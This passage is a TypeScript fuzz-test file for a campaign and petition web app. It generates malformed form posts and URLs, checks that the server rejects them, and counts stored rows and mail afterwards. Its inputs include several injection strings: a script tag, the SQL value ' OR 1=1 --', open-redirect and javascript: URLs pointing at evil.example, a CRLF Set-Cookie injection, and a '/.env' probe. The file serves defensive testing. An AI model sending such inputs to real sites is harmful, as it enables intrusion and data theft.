    source: fc.option(fc.oneof(fc.constantFrom("partner-x", "newsletter"), nasty), { nil: undefined }),
    broken: fc.oneof(
      { weight: 6, arbitrary: badEmail.map((v) => ["email", v, "email"] as [string, string | undefined, string]) },
      { weight: 2, arbitrary: badName.map((v) => ["name", v, "name"] as [string, string | undefined, string]) },
      { weight: 2, arbitrary: badCountry.map((v) => ["country", v, "country"] as [string, string | undefined, string]) },
      { weight: 1, arbitrary: fc.tuple(fc.constantFrom("consent_updates", "show_name"), badCheckbox).map(([f, v]) => [f, v, "checkbox"] as [string, string | undefined, string]) },
      { weight: 1, arbitrary: honeypotValue.map((v) => ["website", v, "honeypot"] as [string, string | undefined, string]) },
    ),
    dupes: fc.array(fc.tuple(fc.constantFrom("name", "email", "country", "consent_updates", "show_name", "source"), nasty), { maxLength: 3 }),
    extras: extraFields,
    asFile: fc.option(fc.nat(), { freq: 8, nil: null }),
  })
  .map(({ broken, dupes, extras, asFile, ...base }) => ({
    fields: assemble(base, broken, dupes, extras, asFile),
    broken: broken[2] + (broken[1] === undefined ? " (missing)" : ""),
  }));

const targetId = fc.stringMatching(/^[A-Za-z0-9_-]{1,40}$/);
type Broken = [string, string | undefined, string];
const messageForm: fc.Arbitrary<FormSpec> = fc
  .record({
    name: either(validName),
    email: either(validEmail),
    country: either(validCountry),
    area: fc.option(fc.oneof(fc.constantFrom("Bangkok", "Yangon Region"), nasty), { nil: undefined }),
    subject: either(fc.constantFrom("Please act now", "ကျေးဇူးပြု၍", "Embargo")),
    body: either(fc.constantFrom("Dear Minister,\n\nPlease act.\n\nThank you.", "ဝန်ကြီးမင်းခင်ဗျား")),
    targets: fc.array(fc.oneof({ weight: 3, arbitrary: targetId }, { weight: 1, arbitrary: nasty }), { maxLength: 4 }),
    broken: fc.oneof(
      { weight: 5, arbitrary: badEmail.map((v): Broken => ["email", v, "email"]) },
      { weight: 1, arbitrary: badName.map((v): Broken => ["name", v, "name"]) },
      { weight: 1, arbitrary: badCountry.map((v): Broken => ["country", v, "country"]) },
      {
        weight: 2,
        arbitrary: fc
          .oneof(
            fc.constant(undefined),
            fc.constantFrom("", "   ", "A".repeat(201), "x\u0000y", "a\u202Eb", "x\u0007"),
            fc.tuple(smallNasty, range(0x00, 0x08, 2)).map(([a, c]) => a + c),
          )
          .map((v): Broken => ["subject", v, "subject"]),
      },
      {
        weight: 2,
        arbitrary: fc
          .oneof(
            fc.constant(undefined),
            fc.constantFrom("", "\n\n", "B".repeat(5001), "ဿ".repeat(5001), "x\u0000y", "line\u001bline", "\u2066hidden\u2069"),
            fc.tuple(smallNasty, range(0x0e, 0x1f, 2)).map(([a, c]) => a + c),
          )
          .map((v): Broken => ["body", v, "body"]),
      },
      { weight: 1, arbitrary: fc.constantFrom("A".repeat(101), "x\u0000y", "a\u202Eb", "Z".repeat(100_001)).map((v): Broken => ["area", v, "area"]) },
      { weight: 1, arbitrary: honeypotValue.map((v): Broken => ["website", v, "honeypot"]) },
      { weight: 2, arbitrary: fc.constant<Broken>(["target", undefined, "target"]) },
    ),
    // How the targets are broken when the target is the broken field.
    targetBreak: fc.oneof(
      fc.constant<string[]>([]),
      fc.array(fc.oneof(fc.constantFrom("", "a b", "../x", "x".repeat(41), "<script>", "' OR 1=1 --", "%", "１２３"), range(0x80, 0x10ffff, 5)), { minLength: 1, maxLength: 3 }),
      fc.integer({ min: 51, max: 3000 }).map((n) => Array.from({ length: n }, (_, i) => `t${i}`)),
      fc.array(targetId.map((t) => "fuzz-unknown-" + t.slice(0, 27)), { minLength: 1, maxLength: 3 }), // well-formed, no such official
    ),
    dupes: fc.array(fc.tuple(fc.constantFrom("name", "email", "country", "area", "subject", "body"), nasty), { maxLength: 2 }),
    extras: extraFields,
    asFile: fc.option(fc.nat(), { freq: 8, nil: null }),
  })
  .map(({ targets, targetBreak, broken, dupes, extras, asFile, ...base }) => {
    const fields = assemble(base, broken, dupes, extras, asFile);
    const ts = broken[0] === "target" ? targetBreak : targets;
    const unknownTargets = broken[0] === "target" && ts.length > 0 && ts.length <= 50 && ts.every((t) => t.startsWith("fuzz-unknown-"));
    for (const t of ts) fields.push(["target", t]);
    return {
      fields,
      broken: unknownTargets ? "target (unknown ids)" : broken[2] + (broken[1] === undefined && broken[0] !== "target" ? " (missing)" : ""),
      // Well-formed ids of no official on the campaign's list: only the database can tell.
      routeRejects: unknownTargets ? "targets that are on no list of this campaign" : undefined,
    };
  });

/** The signing form and the composer check the honeypot first and then the schema, as their actions do. */
const honeypot = (form: FormData) => !!form.get("website");
const rejectsSignature: Rejects = (form) => honeypot(form) || !parseSignatureForm(form).ok;
const rejectsMessage: Rejects = (form) => honeypot(form) || !parseMessageForm(form).ok;

/** Confirmation by code: 10 characters of Crockford's base32, typed any way a person types them. */
const CROCKFORD = "0123456789ABCDEFGHJKMNPQRSTVWXYZ";
/** The code field as the action reads it (a file part reads as "[object File]"). */
const typedCode = (form: FormData) => String(form.get("code") ?? "").slice(0, 40);
const isCodeShaped = (s: string) => canonicalCode(s.slice(0, 40)) !== null;
const wellFormedCode = fc
  .tuple(fc.array(fc.constantFrom(...CROCKFORD), { minLength: 10, maxLength: 10 }), fc.nat())
  .map(([cs, pick]) => {
    const c = cs.join("");
    const forms = [
      `${c.slice(0, 5)}-${c.slice(5)}`,
      c,
      c.toLowerCase(),
      ` ${c.slice(0, 5)} ${c.slice(5)} `,
      `${c.slice(0, 5)}\u2013${c.slice(5)}`, // an en dash, as a phone's keyboard makes one
      c.replace(/0/g, "O").replace(/1/g, "l"), // letters mistaken for digits
      c.replace(/[A-Z0-9]/g, (ch) => String.fromCodePoint(ch.codePointAt(0)! + 0xfee0)), // full-width, as NFKC folds it
      c.split("").join("."),
    ];
    return forms[pick % forms.length];
  });
/** Not a code at all, after the app has made it canonical. */
const malformedCode = fc
  .oneof(
    fc.constantFrom("", " ", "-", "00000-0000", "00000-000000", "UUUUU-UUUUU", "AAAAA-AAAAU", "12345 67890 1", "ABCDE-FGHI!", "ABCDE-FGHI\u0000", "ABCDE\r\nFGHIJ", "ÅBCDE-FGHIJ", "I".repeat(41)),
    fc.array(fc.constantFrom(...CROCKFORD), { minLength: 1, maxLength: 40 }).filter((a) => a.length !== 10).map((a) => a.join("")),
    nasty,
  )
  .filter((s) => !isCodeShaped(s));
const codeForm: fc.Arbitrary<FormSpec> = fc
  .record({
    code: fc.oneof({ weight: 1, arbitrary: fc.constant(undefined) }, { weight: 6, arbitrary: malformedCode }, { weight: 3, arbitrary: wellFormedCode }),
    extras: extraFields,
  })
  .map(({ code, extras }) => {
    const wellFormed = code !== undefined && isCodeShaped(code);
    return {
      fields: assemble({}, ["code", code, "code"], [], extras, null),
      broken: wellFormed ? "code (well-formed, of no signature)" : code === undefined ? "code (missing)" : "code",
      // A code of the right shape is looked up: that no pending signature has it, only the database can tell
      // (50 random bits; the JSON API's confirmed counts show it if one ever matched).
      routeRejects: wellFormed ? "a code no pending signature was given" : undefined,
    };
  });
const rejectsCode: Rejects = (form) => !isCodeShaped(typedCode(form));

/** The data-export request: an address, and the honeypot, checked first as the action does. */
const myDataForm: fc.Arbitrary<FormSpec> = fc
  .record({
    email: either(validEmail),
    broken: fc.oneof(
      { weight: 8, arbitrary: badEmail.map((v): Broken => ["email", v, "email"]) },
      { weight: 1, arbitrary: honeypotValue.map((v): Broken => ["website", v, "honeypot"]) },
    ),
    dupes: fc.array(fc.tuple(fc.constant("email"), nasty), { maxLength: 2 }),
    extras: extraFields,
  })
  .map(({ broken, dupes, extras, ...base }) => ({
    fields: assemble(base, broken, dupes, extras, null),
    broken: broken[2] + (broken[1] === undefined ? " (missing)" : ""),
  }));
const rejectsMyData: Rejects = (form) => {
  const raw = form.get("email");
  return honeypot(form) || !signatureFormSchema.shape.email.safeParse(typeof raw === "string" ? raw : undefined).success;
};

/** The withdraw link: ids and MACs as the route reads them from the path (percent-decoded, `.data` dropped). */
const WITHDRAW_PATH = /^\/[^/?]*\/signatures\/([^/?]*)\/withdraw\/([^/?]*)/;
function withdrawActs(req: FuzzRequest): string | null {
  const m = WITHDRAW_PATH.exec(req.path);
  if (!m) return null;
  const readings = (seg: string) => {
    const out = new Set([seg, seg.replace(/\.data$/, "")]);
    for (const s of [...out]) {
      try {
        out.add(decodeURIComponent(s));
      } catch {
        // Remix leaves a segment it cannot decode as it is.
      }
    }
    return out;
  };
  for (const id of readings(m[1])) for (const mac of readings(m[2])) if (checkDeleteMac(APP_SECRET, id, mac)) return `a valid withdraw link for signature ${id}`;
  return null;
}
/** Ids as the database gives them: the first twenty are those of a fresh database (the sentinel among them). */
const signatureIdSeg = fc.oneof(
  { weight: 3, arbitrary: fc.integer({ min: 1, max: 20 }).map(String) },
  { weight: 2, arbitrary: fc.bigInt({ min: 0n, max: 9_223_372_036_854_775_807n }).map(String) },
  { weight: 1, arbitrary: fc.constantFrom("0", "-1", "01", "1.0", " 1", "1e0", "0x1", "+1", "9".repeat(20), "１", "1%00").map((s) => (s.includes("%") ? s : pctText(s))) },
  { weight: 2, arbitrary: garbageSeg },
);
/** Every byte percent-encoded, unreserved ones too: the route decodes them back. */
const pctAll = (s: string) => [...Buffer.from(s)].map((b) => "%" + HEX[b >> 4] + HEX[b & 15]).join("");
/** A MAC that is nearly right: the id's own, altered so that it no longer matches (as a path segment). */
const nearMiss = (mac: string, pick: number): string => {
  const i = Math.floor(pick / 8) % mac.length;
  const changed = mac.slice(0, i) + (mac[i] === "A" ? "B" : "A") + mac.slice(i + 1);
  const variants = [
    changed, // one character changed
    mac.slice(0, -1), // one short
    mac + "A", // one long
    mac.toUpperCase() === mac ? mac.toLowerCase() : mac.toUpperCase(),
    mac.split("").reverse().join(""),
    pctAll(changed), // percent-encoded, and wrong
    pctText(mac.slice(0, 31) + "\u0000"),
    pctText(mac + "\u0000"),
  ];
  return variants[pick % variants.length];
};
const macShaped = fc.stringMatching(/^[A-Za-z0-9_-]{32}$/); // the right shape, a random value
const macOtherShape = fc.stringMatching(/^[A-Za-z0-9_-]{43}$|^[0-9a-f]{64}$/);
/** A MAC segment for `id`: nearly its own (3 in 9), random of the right shape (2), another signature's (1), another shape (1), garbage (2). */
const withdrawMac = ([id, kind, n, shaped, other, garbage]: [string, number, number, string, string, string]): string => {
  if (kind < 3) return nearMiss(deleteMac(APP_SECRET, /^\d+$/.test(id) ? id : "1"), n);
  if (kind < 5) return shaped;
  if (kind === 5) {
    const another = (n % 20) + 1;
    return deleteMac(APP_SECRET, String(Number(id) === another ? another + 1 : another));
  }
  return kind === 6 ? other : garbage;
};

// ---------------------------------------------------------------------------------------------
// The public surface

const get = fc.constantFrom<Method>("GET", "GET", "GET", "GET", "GET", "GET", "HEAD", "POST", "OPTIONS");
// Half by single fetch: the loaders are the same, and a document answer renders the same page again and again.
const dataSuffix = fc.constantFrom("", ".data");
const tokenSeg = fc.oneof(
  { weight: 3, arbitrary: garbageSeg },
  { weight: 2, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{43}$/) }, // well-formed: looked up, unknown
  { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{42}$|^[A-Za-z0-9_-]{44}$|^[A-Za-z0-9+/]{42}=$/).map((s) => pctText(s)) },
);
const smallBody = fc.oneof(
  fc.constant<string | undefined>(undefined),
  fc.constantFrom("List-Unsubscribe=One-Click", "List-Unsubscribe=One-Click&List-Unsubscribe=One-Click", "{}", ""),
  nasty.map((s) => new URLSearchParams({ x: s }).toString()),
);
const bodyFor = (method: Method, body: string | undefined) => (method === "GET" || method === "HEAD" ? undefined : body);

const endpoints: Endpoint[] = [
  formEndpoint({
    name: "sign POST /{lang}/campaigns/{slug}",
    runs: 2000,
    path: fc.tuple(fc.constantFrom(...LANGS), fc.constantFrom(...SLUGS), fc.constantFrom("", "", "", "", "/")).map(([l, s, t]) => `/${l}/campaigns/${s}${t}`),
    form: signatureForm,
    rejects: rejectsSignature,
  }),
  formEndpoint({
    name: "write POST /{lang}/campaigns/{slug}/write",
    runs: 1300,
    path: fc.tuple(fc.constantFrom(...LANGS), fc.constantFrom(...SLUGS)).map(([l, s]) => `/${l}/campaigns/${s}/write`),
    form: messageForm,
    rejects: rejectsMessage,
  }),
  formEndpoint({
    name: "code POST /{lang}/campaigns/{slug}/signed",
    runs: 900,
    path: fc.tuple(fc.constantFrom(...LANGS), fc.constantFrom(...SLUGS)).map(([l, s]) => `/${l}/campaigns/${s}/signed`),
    form: codeForm,
    rejects: rejectsCode,
  }),
  formEndpoint({
    name: "my data POST /{lang}/my-data",
    runs: 800,
    path: fc.constantFrom(...LANGS).map((l) => `/${l}/my-data`),
    form: myDataForm,
    rejects: rejectsMyData,
  }),
  endpoint({
    name: "withdraw GET/POST /{lang}/signatures/{id}/withdraw/{mac}",
    runs: 600,
    refutes: withdrawActs,
    request: fc
      .tuple(
        fc.constantFrom<Method>("GET", "GET", "HEAD", "POST", "POST", "POST", "PUT", "DELETE"),
        langSeg,
        fc.tuple(signatureIdSeg, fc.integer({ min: 0, max: 8 }), fc.nat(), macShaped, macOtherShape, garbageSeg),
        dataSuffix,
        smallBody,
      )
      .map(([m, l, idMac, d, b]) => ({ method: m, path: `/${l}/signatures/${idMac[0]}/withdraw/${withdrawMac(idMac)}${d}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "challenge GET /{lang}/campaigns/{slug}/challenge",
    runs: 300,
    request: fc
      .tuple(get, langSeg, fc.oneof({ weight: 1, arbitrary: fc.constantFrom(...SLUGS) }, { weight: 2, arbitrary: garbageSeg }), fc.constantFrom("", "", "", "/", ".data", ".json"), query, smallBody)
      .map(([m, l, s, x, q, b]) => ({ method: m, path: `/${l}/campaigns/${s}/challenge${x}${q}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "campaign page GET /{lang}/campaigns/{slug}?…",
    runs: 100,
    request: fc.tuple(langSeg, slugSeg, dataSuffix, query).map(([l, s, d, q]) => ({ method: "GET" as Method, path: `/${l}/campaigns/${s}${d}${q}` })),
  }),
  endpoint({
    name: "composer GET /{lang}/campaigns/{slug}/write?country&area",
    runs: 100,
    request: fc
      .tuple(langSeg, slugSeg, dataSuffix, fc.oneof(badCountry, validCountry), nasty, query)
      .map(([l, s, d, c, a, q]) => ({
        method: "GET" as Method,
        path: `/${l}/campaigns/${s}/write${d}?country=${pctText((c ?? "").slice(0, 500))}&area=${pctText(a.slice(0, 2000))}${q.replace("?", "&")}`,
      })),
  }),
  endpoint({
    name: "confirm GET /{lang}/confirm/{token}",
    runs: 800,
    request: fc.tuple(get, langSeg, tokenSeg, dataSuffix, query, smallBody).map(([m, l, t, d, q, b]) => ({ method: m, path: `/${l}/confirm/${t}${d}${q}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "letter confirm GET /{lang}/messages/confirm/{token}",
    runs: 600,
    request: fc.tuple(get, langSeg, tokenSeg, dataSuffix, query, smallBody).map(([m, l, t, d, q, b]) => ({ method: m, path: `/${l}/messages/confirm/${t}${d}${q}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "letter receipt GET /{lang}/messages/{publicId}",
    runs: 250,
    request: fc
      .tuple(get, langSeg, fc.oneof(garbageSeg, fc.stringMatching(/^[A-Za-z0-9_-]{22}$/)), dataSuffix, smallBody)
      .map(([m, l, id, d, b]) => ({ method: m, path: `/${l}/messages/${id}${d}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "API GET /api/v1/campaigns?…",
    runs: 500,
    request: fc
      .tuple(get, fc.constantFrom("/api/v1/campaigns", "/api/v1/campaigns/", "/api/v1/campaigns.data", "/api/v1/campaigns.json"), query, smallBody)
      .map(([m, p, q, b]) => ({ method: m, path: p + q, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "API GET /api/v1/campaigns/{slug}?…",
    runs: 700,
    request: fc.tuple(get, slugSeg, fc.constantFrom("", "", "", "/", ".data", ".json"), query, smallBody).map(([m, s, x, q, b]) => ({
      method: m,
      path: `/api/v1/campaigns/${s}${x}${q}`,
      body: bodyFor(m, b),
    })),
  }),
  endpoint({
    name: "language GET/POST /language/{lng}?to=…",
    runs: 500,
    request: fc
      .tuple(
        fc.constantFrom<Method>("GET", "GET", "GET", "GET", "POST", "HEAD"),
        langSeg,
        fc.oneof(
          { weight: 4, arbitrary: nasty.map((s) => "/" + pctText(s.slice(0, 2000))) },
          { weight: 1, arbitrary: fc.constantFrom(...BROKEN_ESCAPES).map((e) => "/" + e) },
          { weight: 2, arbitrary: fc.constantFrom("//evil.example", "/\\evil.example", "/%5Cevil.example", "https://evil.example", "javascript:alert(1)", "/%0d%0aSet-Cookie:%20x=y", "/%E2%80%AE", "/en/campaigns/arms-embargo", "", "%2F%2Fevil.example") },
        ),
        query,
        smallBody,
      )
      .map(([m, l, to, q, b]) => ({ method: m, path: `/language/${l}?to=${to}${q.replace("?", "&")}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "unsubscribe POST /{lang}/unsubscribe/{signature}/{mac}",
    runs: 500,
    request: fc
      .tuple(
        fc.constantFrom<Method>("POST", "POST", "POST", "POST", "GET", "PUT", "DELETE"),
        langSeg,
        fc.oneof(fc.bigInt({ min: 0n, max: 9_223_372_036_854_775_807n }).map(String), fc.constantFrom("0", "-1", "1".repeat(19), "9".repeat(20), "1e3", "0x10", " 1", "1.0", "１").map(pctText), garbageSeg),
        fc.oneof(fc.stringMatching(/^[A-Za-z0-9_-]{43}$/), fc.stringMatching(/^[0-9a-f]{64}$/), garbageSeg),
        dataSuffix,
        smallBody,
      )
      .map(([m, l, sig, mac, d, b]) => ({ method: m, path: `/${l}/unsubscribe/${sig}/${mac}${d}`, body: bodyFor(m, b) })),
  }),
  endpoint({
    name: "unknown languages, campaigns and paths",
    runs: 550,
    rejects: rejectsSignature, // what is posted here is a bad signing form
    request: fc
      .tuple(
        fc.constantFrom<Method>("GET", "GET", "POST", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"),
        fc.oneof(
          fc.tuple(langSeg, garbageSeg).map(([l, s]) => `/${l}/campaigns/${s}`),
          fc.tuple(langSeg, garbageSeg).map(([l, s]) => `/${l}/campaigns/${s}/write`),
          fc.tuple(garbageSeg, fc.constantFrom(...SLUGS)).map(([l, s]) => `/${l}/campaigns/${s}`),
          fc.tuple(garbageSeg, fc.constantFrom(...SLUGS)).map(([l, s]) => `/${l}/campaigns/${s}/write`),
          fc.tuple(langSeg, garbageSeg).map(([l, s]) => `/${l}/${s}`),
          garbageSeg.map((s) => `/${s}`),
          garbageSeg.map((s) => `/api/v1/${s}`),
          garbageSeg.map((s) => `/build/${s}`),
          garbageSeg.map((s) => `/dev/mail/${s}`),
          fc.constantFrom("/api/v2/campaigns", "/%", "//", "///en", "/.env", "/.data", "/_root.data", "/en/.data", "/index.data", "/healthz.data"),
        ),
        dataSuffix,
        query,
        formBody(signatureForm),
      )
      .map(([method, p, d, q, form]) => ({ method, path: p + d + q, form: method === "GET" || method === "HEAD" ? null : form })),
  }),
];

// ---------------------------------------------------------------------------------------------
// Running

interface Outcome {
  req: FuzzRequest;
  ms: number;
  status: number | null;
  error?: string;
  snippet?: string;
}

/** Proves each request invalid the way the server will read it; returns the ones it could not. */
async function provenBad(reqs: FuzzRequest[], { rejects, refutes }: Pick<Endpoint, "rejects" | "refutes">): Promise<{ ok: FuzzRequest[]; unsound: { req: FuzzRequest; why: string }[] }> {
  const ok: FuzzRequest[] = [];
  const unsound: { req: FuzzRequest; why: string }[] = [];
  for (const req of reqs) {
    let request: Request;
    try {
      request = new Request(`http://fuzz.invalid${req.path}`, { method: req.method, headers: req.headers, body: req.body });
    } catch (e) {
      unsound.push({ req, why: `the client cannot send it: ${(e as Error).message}` });
      continue;
    }
    const badHeader = Object.entries(req.headers).find(([, v]) => !HEADER_BYTES.test(v));
    if (badHeader) {
      unsound.push({ req, why: `the client cannot send header ${badHeader[0]}` });
      continue;
    }
    const acts = refutes?.(req);
    if (acts) {
      unsound.push({ req, why: acts });
      continue;
    }
    if (rejects && req.body !== undefined && !req.routeRejects) {
      let form: FormData | null = null;
      try {
        form = await request.formData();
      } catch {
        // Unreadable as a form: readForm answers 400.
      }
      if (form && !rejects(form)) {
        const read = [...form.entries()].map(([k, v]) => [k, typeof v === "string" ? v.slice(0, 60) : `(file ${v.size} bytes)`]);
        unsound.push({ req, why: `the app's schema accepts this body, read as ${JSON.stringify(read)}` });
        continue;
      }
    }
    ok.push(req);
  }
  return { ok, unsound };
}

async function send(baseUrl: string, req: FuzzRequest, retry = true): Promise<Outcome> {
  const t0 = performance.now();
  const ms = () => performance.now() - t0;
  try {
    const res = await fetch(baseUrl + req.path, {
      method: req.method,
      headers: req.headers.origin === SELF_ORIGIN ? { ...req.headers, origin: baseUrl } : req.headers,
      body: req.body,
      redirect: "manual",
      signal: AbortSignal.timeout(30_000),
    });
    const text = res.status >= 500 ? await res.text() : (await res.arrayBuffer(), "");
    return { req, ms: ms(), status: res.status, snippet: text.slice(0, 200) };
  } catch (e) {
    // A kept-alive connection the server closed as the request went out is reset: once more, then it counts.
    if (retry) return send(baseUrl, req, false);
    const err = e as Error & { cause?: Error };
    return { req, ms: ms(), status: null, error: `${err.name}: ${err.message}${err.cause ? ` (${err.cause.message})` : ""}` };
  }
}

/** What entry.server logs for a 5xx ("error on <path>: <error>"); 405s and warnings are not failures. */
function loggedErrors(output: string): { path: string; cause: string }[] {
  // The first frame of the stack outside Node's own code tells apart errors with the same message.
  const where = (stack: string) => {
    const frame = stack.split("\n").find((l) => /^\s+at /.test(l) && !l.includes("node:internal"));
    const name = frame && /at (?:async )?([^\s(]+)/.exec(frame)?.[1];
    return name ? ` (at ${name})` : "";
  };
  return [...output.matchAll(/^error on (\S*): ([^\n]*)((?:\n[ \t]+at [^\n]*)*)/gm)]
    .map((m) => ({ path: m[1].replace(/\.data$/, ""), cause: m[2] + where(m[3]) }))
    .filter((e) => !e.cause.startsWith("ErrorResponseImpl") && !e.cause.startsWith("Error: Warning:"));
}

/** One cause, whatever the input: numbers and quoted values left out. */
const causeKey = (cause: string) => cause.replace(/"[^"]*("|$)/g, '"…"').replace(/\d+/g, "N").slice(0, 200);

/**
 * Names the causes of the failures: the server's log, grouped by message, each with the shortest
 * failing request on that path, sent again to show it fails every time (the status on replay).
 */
async function explain(server: RunningServer, failed: Outcome[], logged: { path: string; cause: string }[]) {
  const pathOf = (r: FuzzRequest) => {
    try {
      return new URL(server.baseUrl + r.path).pathname.replace(/\.data$/, "");
    } catch {
      return r.path;
    }
  };
  const size = (r: FuzzRequest) => r.path.length + (r.body?.length ?? 0) + JSON.stringify(r.headers).length;
  const causes = new Map<string, { n: number; paths: Set<string> }>();
  for (const e of logged) {
    const key = causeKey(e.cause);
    const c = causes.get(key) ?? { n: 0, paths: new Set<string>() };
    c.n++;
    c.paths.add(e.path);
    causes.set(key, c);
  }
  const out: { cause: string; n: number; example?: FuzzRequest; replayed?: number | string | null }[] = [];
  for (const [cause, c] of causes) {
    // The shortest request on a logged path that fails with this very cause when sent again (a path can fail for several).
    const candidates = failed.filter((f) => c.paths.has(pathOf(f.req))).sort((a, b) => size(a.req) - size(b.req));
    let found: (typeof out)[number] = { cause, n: c.n };
    for (const f of candidates.slice(0, 6)) {
      const mark = server.output().length;
      const again = await send(server.baseUrl, f.req);
      await new Promise((r) => setTimeout(r, 20));
      const same = loggedErrors(server.output().slice(mark)).some((e) => causeKey(e.cause) === cause);
      if (same || !found.example) found = { cause, n: c.n, example: f.req, replayed: again.status ?? "no answer" };
      if (same) break;
    }
    out.push(found);
  }
  const silent = failed.filter((f) => f.status === null);
  if (silent.length) out.push({ cause: `no answer: ${silent[0].error}`, n: silent.length, example: silent[0].req, replayed: (await send(server.baseUrl, silent[0].req)).status });
  return out.sort((a, b) => b.n - a.n);
}

async function pool<T, R>(items: T[], concurrency: number, fn: (t: T) => Promise<R>): Promise<R[]> {
  const out = new Array<R>(items.length);
  let next = 0;
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      while (next < items.length) {
        const i = next++;
        out[i] = await fn(items[i]);
      }
    }),
  );
  return out;
}

/** Deterministic shuffle (mulberry32), so the endpoints' requests interleave the same way each run. */
function shuffle<T>(items: T[], seed: number): T[] {
  let a = seed >>> 0;
  const rnd = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  for (let i = items.length - 1; i > 0; i--) {
    const j = Math.floor(rnd() * (i + 1));
    [items[i], items[j]] = [items[j], items[i]];
  }
  return items;
}

function describeRequest(r: FuzzRequest): string {
  const body =
    r.body === undefined
      ? ""
      : (() => {
          const bytes = typeof r.body === "string" ? Buffer.from(r.body) : Buffer.from(r.body);
          return `\n    body (${bytes.length} bytes${r.note ? `; ${r.note}` : ""}): ${JSON.stringify(bytes.subarray(0, 300).toString("latin1"))}${bytes.length > 300 ? "…" : ""}`;
        })();
  const shown = Object.fromEntries(Object.entries(r.headers).map(([k, v]) => [k, v === SELF_ORIGIN ? "(the server's own origin)" : v.length > 120 ? v.slice(0, 120) + "…" : v]));
  return `${r.method} ${r.path.length > 400 ? r.path.slice(0, 400) + "…" : r.path}\n    headers: ${JSON.stringify(shown)}${body}`;
}

// ---------------------------------------------------------------------------------------------
// What is stored

type Counts = Record<string, number>;

const mailFiles = (dataDir: string) => {
  const dir = path.join(dataDir, "mail");
  return existsSync(dir) ? readdirSync(dir).filter((f) => f.endsWith(".eml")).length : 0;
};

/** What anyone can see from outside: the API's confirmed counts and letters, and the captured mail. */
async function publicCounts(server: RunningServer): Promise<Counts> {
  const counts: Counts = {};
  const list = (await (await fetch(`${server.baseUrl}/api/v1/campaigns`)).json()) as { campaigns: { slug: string; signatureCount: number }[] };
  counts["api list: campaigns"] = list.campaigns.length;
  for (const c of list.campaigns) {
    counts[`api list: ${c.slug} signatureCount`] = c.signatureCount;
    const one = (await (await fetch(`${server.baseUrl}/api/v1/campaigns/${c.slug}`)).json()) as {
      signatureCount: number;
      messagesSent: number;
      signaturesByCountry: Record<string, number>;
    };
    counts[`api ${c.slug}: signatureCount`] = one.signatureCount;
    counts[`api ${c.slug}: messagesSent`] = one.messagesSent;
    counts[`api ${c.slug}: countries`] = Object.values(one.signaturesByCountry).reduce((a, b) => a + b, 0);
  }
  counts["mail files in DATA_DIR/mail"] = mailFiles(server.dataDir);
  const listing = await fetch(`${server.baseUrl}/dev/mail`);
  counts["mails listed at /dev/mail"] = listing.ok ? ((await listing.text()).match(/href="\/dev\/mail\/[^"]+"/g) ?? []).length : -listing.status;
  return counts;
}

/** The fuzz run's time window: rows created in it came from bad input. */
interface Window {
  from: Date;
  to: Date;
}

/** Rows in each table, and how many of them were created in the window (on the server's clock, which is ours). */
async function countRows(db: DB, window?: Window, label = "created during the run"): Promise<Counts> {
  const counts: Counts = {};
  const from = window?.from ?? new Date(0);
  const to = window?.to ?? new Date(0);
  for (const t of TABLES) {
    const { rows } = await sql<{ n: number; during: number }>`select count(*)::int as n, count(*) filter (where created_at between ${from} and ${to})::int as during from ${sql.table(t)}`.execute(db);
    counts[`rows in ${t}`] = rows[0].n;
    if (window) counts[`rows in ${t} ${label}`] = rows[0].during;
  }
  return counts;
}

/** The server's own database: Postgres at any time; PGlite's data dir only once the server has stopped (PGlite admits one process). */
async function withDatabase<T>(where: { databaseUrl: string } | { dataDir: string }, fn: (db: DB) => Promise<T>): Promise<T> {
  const { db } = await openDatabase("databaseUrl" in where ? { databaseUrl: where.databaseUrl, poolSize: 1 } : { dataDir: where.dataDir });
  try {
    return await fn(db);
  } finally {
    await db.destroy();
  }
}

const postgresCounts = (url: string, window?: Window) => withDatabase({ databaseUrl: url }, (db) => countRows(db, window));

/** What a signer's confirmation mail carries: the withdraw link's id and MAC, and the code. */
interface SignerMail {
  signatureId: string;
  mac: string;
  code: string;
}

/** Reads the captured confirmation mail to `address`, waiting for the outbox worker to send it. */
async function signerMail(dataDir: string, address: string, timeoutMs = 20_000): Promise<SignerMail> {
  const dir = path.join(dataDir, "mail");
  const deadline = Date.now() + timeoutMs;
  let last = "";
  for (;;) {
    for (const f of existsSync(dir) ? readdirSync(dir).filter((x) => x.endsWith(".eml")) : []) {
      const raw = readFileSync(path.join(dir, f));
      if (!raw.includes(address)) continue;
      last = (await simpleParser(raw)).text ?? "";
      const link = /\/signatures\/(\d+)\/withdraw\/([A-Za-z0-9_-]{32})/.exec(last);
      const code = /\b[0-9A-HJKMNP-TV-Z]{5}-[0-9A-HJKMNP-TV-Z]{5}\b/.exec(last);
      if (link && code) return { signatureId: link[1], mac: link[2], code: code[0] };
    }
    if (Date.now() > deadline) throw new Error(`no confirmation mail to ${address} with a withdraw link and a code in ${timeoutMs} ms${last ? `; the last read:\n${last}` : ""}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** Signs as a person would (a valid form, proved so by the app's schema); the answer is a redirect to "check your inbox". */
async function signValid(server: RunningServer, lang: string, slug: string, fields: Record<string, string>): Promise<number> {
  const body = new URLSearchParams(fields);
  const form = new FormData();
  for (const [k, v] of body) form.append(k, v);
  expect(parseSignatureForm(form).ok, `the app's schema refuses the valid form ${JSON.stringify(fields)}`).toBe(true);
  const res = await fetch(`${server.baseUrl}/${lang}/campaigns/${slug}`, { method: "POST", body, redirect: "manual" });
  return res.status;
}

/** Waits for the outbox worker to send anything a stored input would have queued. */
async function settle(server: RunningServer, ms = 1500) {
  await new Promise((r) => setTimeout(r, ms));
  await fetch(`${server.baseUrl}/healthz`);
}

// ---------------------------------------------------------------------------------------------

const onPostgres = !!process.env.DATABASE_URL;
